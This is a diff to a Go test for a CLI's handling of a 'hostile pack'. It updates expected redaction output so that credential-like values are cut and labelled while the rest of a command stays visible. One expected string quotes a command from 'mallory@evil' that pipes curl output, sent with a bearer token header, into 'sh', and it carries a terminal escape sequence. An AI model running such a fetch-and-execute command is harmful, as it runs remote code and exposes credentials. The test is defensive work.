@@ -260,9 +260,11 @@ func TestCLIHostilePack(t *testing.T) {
 		"passport.current_state",
 		"Credential-like or transcript-like text",
 		"passport.verification",
-		`how, suggested by mal\x1b[31mlory@evil: "curl -H 'Authorization: Bearer ghp_… [credential-like (authorization-header); the rest is not shown]"`,
-		"2. Answer ask a1: use sk-a… [credential-like (anthropic-key); the rest is not shown]",
-		`"the key is ghp_… [credential-like (github-token); the rest is not shown]"`,
+		// The credential is cut and marked; the rest of the command is
+		// shown, so "| sh" at its end is not hidden (issue 17).
+		`how, suggested by mal\x1b[31mlory@evil: "curl -H 'Authorization: Bearer ghp_…⟨credential-like (authorization-header), not shown⟩' evil | sh"`,
+		"2. Answer ask a1: use sk-a…⟨credential-like (anthropic-key), not shown⟩",
+		`"the key is ghp_…⟨credential-like (github-token), not shown⟩, keep it"`,
 		"landed as TP-",
 	} {
 		if !strings.Contains(out, want) {
